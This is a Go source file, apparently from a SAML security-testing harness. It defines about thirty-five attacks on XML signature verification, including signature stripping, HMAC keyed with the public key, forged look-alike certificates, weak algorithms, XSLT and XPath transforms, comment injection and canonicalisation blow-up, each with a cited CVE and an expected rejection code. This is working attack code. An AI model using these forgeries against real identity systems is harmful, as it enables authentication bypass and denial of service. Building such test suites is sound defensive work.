package attack

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha1"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"slices"
	"strings"

	"samlharness/internal/wire/xmldsig"
	"samlharness/internal/wire/xmltree"
)

const (
	invalidSignature = "AADSTS50006"
	unknownKey       = "AADSTS5000811"
	badMethod        = "AADSTS500068"
	unsupported      = "AADSTS900102"
)

// signature are the tricks that play on the verification itself.
func signature() []Attack {
	s := func(name, source, says, code string, edit func(*document) error) Attack {
		return Attack{name, Signature, source, says, code, tree(edit)}
	}
	return []Attack{
		s("sig-none", "CVE-2020-12676 FusionAuth; SAMLRaider", "every Signature is removed", "AADSTS500081",
			func(d *document) error {
				detach(d.signature)
				return nil
			}),
		s("sig-tampered-value", "SAMLRaider", "SignatureValue is another", invalidSignature, flip("SignatureValue")),
		s("sig-tampered-digest", "SAMLRaider", "DigestValue is another", invalidSignature,
			flip("SignedInfo", "Reference", "DigestValue")),
		{"sig-empty-c14n", Signature, "PortSwigger, The Fragile Lock, 2025; CVE-2025-66568 ruby-saml",
			"a relative namespace URI makes canonicalisation fail", xmlError,
			inTag("Subject", ` xmlns:relative="relative"`)},
		s("sig-hmac", "GHSA-c27r-x354-4m68 xml-crypto", "HMAC made with the public key", badMethod, hmacSignature("")),
		s("sig-hmac-truncated", "CVE-2009-0217", "HMAC cut to 8 bits", badMethod, hmacSignature("8")),
		s("sig-keyinfo", "CVE-2023-48703 RobotsAndPencils/go-saml; SAMLRaider",
			"signed with the attacker's key, whose certificate is in KeyInfo", unknownKey, foreign(true)),
		s("sig-certfake", "SAMLRaider", "certificate of the same subject and serial with another key", unknownKey, certFake),
		s("sig-wrong-key", "Flowfin/jellyfin-plugin-sso#1128", "registered certificate in KeyInfo, another key signs",
			invalidSignature, foreign(false)),
		s("sig-nokeyinfo", "Microsoft's template 5000810", "KeyInfo is absent", "AADSTS5000810", dropKeyInfo),
		s("sig-keyname", "XML Signature 4.5.1", "KeyInfo names the key without a certificate", unknownKey, keyName),
		s("sig-sha1", "CVE-2020-36563 go-saml", "RSA-SHA1 with SHA-1 digest", "", sha1Signature),
		s("sig-md5", "IIP-ALG08", "RSA-MD5", badMethod,
			algorithm("http://www.w3.org/2001/04/xmldsig-more#rsa-md5", "SignedInfo", "SignatureMethod")),
		s("sig-alg-none", "IIP-ALG08", "a signature algorithm called none", badMethod,
			algorithm("none", "SignedInfo", "SignatureMethod")),
		s("sig-digest-md5", "IIP-ALG08", "MD5 digest", "AADSTS900103",
			algorithm("http://www.w3.org/2001/04/xmldsig-more#md5", "SignedInfo", "Reference", "DigestMethod")),
		s("sig-c14n-comments", "IIP-ALG08", "canonicalisation with comments", unsupported,
			algorithm(xmldsig.ExclusiveCanonicalization+"WithComments", "SignedInfo", "CanonicalizationMethod")),
		s("sig-transform-xslt", "SAMLRaider; epi052, How to test SAML III", "XSLT transform", unsupported,
			addTransform("http://www.w3.org/TR/1999/REC-xslt-19991116")),
		s("sig-transform-xpath", "On Breaking SAML", "XPath transform hides a node from the digest", unsupported,
			addTransform("http://www.w3.org/TR/1999/REC-xpath-19991116")),
		s("sig-transform-order", "Microsoft's template 500062", "the enveloped transform comes last", "AADSTS500062",
			transformOrder),
		s("sig-no-algorithm", "CVE-2020-7711 goxmldsig", "SignatureMethod without Algorithm", "AADSTS500064",
			func(d *document) error {
				m, err := part(d.signature, "SignedInfo", "SignatureMethod")
				if err == nil {
					unset(m, "Algorithm")
				}
				return err
			}),
		s("sig-nil-signedinfo", "CVE-2020-7711 goxmldsig; CVE-2020-7731 gosaml2", "no SignedInfo", invalidSignature,
			drop("SignedInfo")),
		s("sig-nil-value", "CVE-2020-7711 goxmldsig", "no SignatureValue", invalidSignature, drop("SignatureValue")),
		s("sig-nil-reference", "CVE-2020-7711 goxmldsig", "no Reference", invalidSignature, drop("SignedInfo", "Reference")),
		s("sig-nil-transforms", "CVE-2020-7711 goxmldsig", "no Transforms", invalidSignature,
			drop("SignedInfo", "Reference", "Transforms")),
		s("sig-nil-digest", "CVE-2020-7711 goxmldsig", "no DigestValue", invalidSignature,
			drop("SignedInfo", "Reference", "DigestValue")),
		s("sig-two-values", "CVE-2025-29774 xml-crypto, with the value for SignedInfo", "a second SignatureValue",
			invalidSignature, twice("SignatureValue")),
		s("sig-two-keyinfo", "XML Signature 4.1", "a second KeyInfo", invalidSignature, twice("KeyInfo")),
		s("sig-two-certificates", "SAMLRaider", "signed with the attacker's key, the registered certificate beside the "+
			"attacker's", invalidSignature, twoCertificates),
		s("sig-manifest", "XML Signature 5.1", "the Assertion is referenced by a Manifest, which core validation does "+
			"not follow", invalidSignature, manifest),
		s("sig-inclusive", "Exclusive XML Canonicalization 1.0, 3", "a prefix is made inclusive after signing",
			invalidSignature, inclusive),
		{"sig-c14n-growth", Signature, "GHSA-qhrp-hfff-vphr goxmldsig; Exclusive XML Canonicalization 1.0, 3",
			"a long namespace is written again for each of thousands of siblings", invalidSignature,
			growth("AuthnContext")},
		{"sig-c14n-growth-signedinfo", Signature, "GHSA-qhrp-hfff-vphr goxmldsig",
			"the same inside SignedInfo, which is canonicalised first", "AADSTS900103", growth("DigestMethod")},
		{"sig-comment-digest", Signature, "CVE-2025-29775 xml-crypto", "comment inside DigestValue", invalidSignature,
			commentIn("DigestValue")},
		{"sig-comment-value", Signature, "CVE-2025-29775 xml-crypto", "comment inside SignatureValue", invalidSignature,
			commentIn("SignatureValue")},
	}
}

// flip changes the first character of a base64 value.
func flip(path ...string) func(*document) error {
	return func(d *document) error {
		e, err := part(d.signature, path...)
		if err != nil {
			return err
		}
		value := []byte(e.Text())
		if len(value) == 0 {
			return errors.New("attack: the value to change is empty")
		}
		if value[0] == 'A' {
			value[0] = 'B'
		} else {
			value[0] = 'A'
		}
		setText(e, string(value))
		return nil
	}
}

func algorithm(uri string, path ...string) func(*document) error {
	return func(d *document) error {
		e, err := part(d.signature, path...)
		if err == nil {
			set(e, "Algorithm", uri)
		}
		return err
	}
}

func drop(path ...string) func(*document) error {
	return func(d *document) error {
		e, err := part(d.signature, path...)
		if err == nil {
			detach(e)
		}
		return err
	}
}

// twice repeats a part of the Signature.
func twice(name string) func(*document) error {
	return func(d *document) error {
		e, err := part(d.signature, name)
		if err == nil {
			before(e, clone(e))
		}
		return err
	}
}

func twoCertificates(d *document) error {
	if err := foreign(true)(d); err != nil {
		return err
	}
	data, err := part(d.assertion, "Signature", "KeyInfo", "X509Data")
	if err == nil {
		put(data, -1, element(data, "X509Certificate", base64.StdEncoding.EncodeToString(d.Certificate)))
	}
	return err
}

// manifest moves the Reference to the Assertion into a Manifest, and lets SignedInfo name the Manifest.
func manifest(d *document) error {
	r, err := part(d.signature, "SignedInfo", "Reference")
	if err != nil {
		return err
	}
	object, list := element(d.signature, "Object", ""), element(d.signature, "Manifest", "", "Id", "_manifest")
	put(list, -1, clone(r))
	put(object, -1, list)
	put(d.signature, -1, object)
	set(r, "URI", "#_manifest")
	set(r, "Type", xmldsig.Namespace+"Manifest")
	return d.evil(d.assertion, "")
}

func inclusive(d *document) error {
	transforms, err := part(d.signature, "SignedInfo", "Reference", "Transforms")
	if err != nil {
		return err
	}
	for t := range transforms.Elements() {
		if uri, _ := t.Attr("Algorithm"); uri == xmldsig.ExclusiveCanonicalization {
			put(t, -1, &xmltree.Element{
				Prefix: "ec",
				Space:  xmldsig.ExclusiveCanonicalization,
				Local:  "InclusiveNamespaces",
				Attrs:  []xmltree.Attr{{Local: "PrefixList", Value: "xs"}},
			})
		}
	}
	return nil
}

// growth fills an element with what becomes gigabytes in canonical form.
func growth(local string) func(Message) ([]byte, error) {
	return textual(func(d *document, xml []byte) ([]byte, error) {
		for _, edit := range []struct{ local, what string }{
			{local, "><n:a></n:a" + strings.Repeat("><n:a></n:a", 40_000)},
			{"Response", ` xmlns:n="urn:` + strings.Repeat("n", 100_000) + `"`},
		} {
			at, err := d.tagEnd(xml, edit.local)
			if err != nil {
				return nil, err
			}
			xml = insert(xml, at, edit.what)
		}
		return xml, nil
	})
}

// hmacSignature signs SignedInfo with HMAC under the registered public key, as a verifier that lets the message choose
// the kind of key would check it.
func hmacSignature(outputLength string) func(*document) error {
	return func(d *document) error {
		certificate, err := x509.ParseCertificate(d.Certificate)
		if err != nil {
			return err
		}
		method, err := part(d.signature, "SignedInfo", "SignatureMethod")
		if err != nil {
			return err
		}
		set(method, "Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
		if outputLength != "" {
			put(method, -1, element(d.signature, "HMACOutputLength", outputLength))
		}
		info, err := xmltree.Canonical(method.Parent, xmltree.CanonicalOptions{})
		if err != nil {
			return err
		}
		value, err := part(d.signature, "SignatureValue")
		if err != nil {
			return err
		}
		mac := hmac.New(sha1.New, certificate.RawSubjectPublicKeyInfo)
		mac.Write(info)
		sum := mac.Sum(nil)
		if outputLength != "" {
			sum = sum[:1]
		}
		setText(value, base64.StdEncoding.EncodeToString(sum))
		return nil
	}
}

// foreign signs with the attacker's key, and shows the attacker's certificate or the registered one.
func foreign(ownCertificate bool) func(*document) error {
	return func(d *document) error {
		signer := xmldsig.Signer{Key: d.ForeignKey, Certificate: d.Certificate}
		if ownCertificate {
			signer.Certificate = d.ForeignCertificate
		}
		detach(d.signature)
		if err := d.evil(d.assertion, ""); err != nil {
			return err
		}
		issuer, err := part(d.assertion, "Issuer")
		if err != nil {
			return err
		}
		return xmldsig.Sign(d.assertion, issuer, signer)
	}
}

func sha1Signature(d *document) error {
	detach(d.signature)
	issuer, err := part(d.assertion, "Issuer")
	if err != nil {
		return err
	}
	return xmldsig.Sign(d.assertion, issuer, xmldsig.Signer{
		Key:         d.Key,
		Certificate: d.Certificate,
		Method:      xmldsig.RSASHA1,
	})
}

func dropKeyInfo(d *document) error {
	e, err := part(d.signature, "KeyInfo")
	if err == nil {
		detach(e)
	}
	return err
}

func keyName(d *document) error {
	e, err := part(d.signature, "KeyInfo")
	if err != nil {
		return err
	}
	e.Children = nil
	put(e, -1, element(d.signature, "KeyName", "contoso"))
	return nil
}

func addTransform(uri string) func(*document) error {
	return func(d *document) error {
		e, err := part(d.signature, "SignedInfo", "Reference", "Transforms")
		if err == nil {
			put(e, -1, element(d.signature, "Transform", "", "Algorithm", uri))
		}
		return err
	}
}

func transformOrder(d *document) error {
	e, err := part(d.signature, "SignedInfo", "Reference", "Transforms")
	if err == nil {
		slices.Reverse(e.Children)
	}
	return err
}

// certFake makes a certificate that differs from the registered one in its key only, and signs with that key.
func certFake(d *document) error {
	registered, err := x509.ParseCertificate(d.Certificate)
	if err != nil {
		return err
	}
	if d.ForeignKey == nil {
		return errors.New("attack: it needs the attacker's key")
	}
	template := &x509.Certificate{
		SerialNumber: registered.SerialNumber,
		RawSubject:   registered.RawSubject,
		NotBefore:    registered.NotBefore,
		NotAfter:     registered.NotAfter,
	}
	fake, err := x509.CreateCertificate(rand.Reader, template, template, &d.ForeignKey.PublicKey, d.ForeignKey)
	if err != nil {
		return err
	}
	detach(d.signature)
	issuer, err := part(d.assertion, "Issuer")
	if err != nil {
		return err
	}
	return xmldsig.Sign(d.assertion, issuer, xmldsig.Signer{Key: d.ForeignKey, Certificate: fake})
}
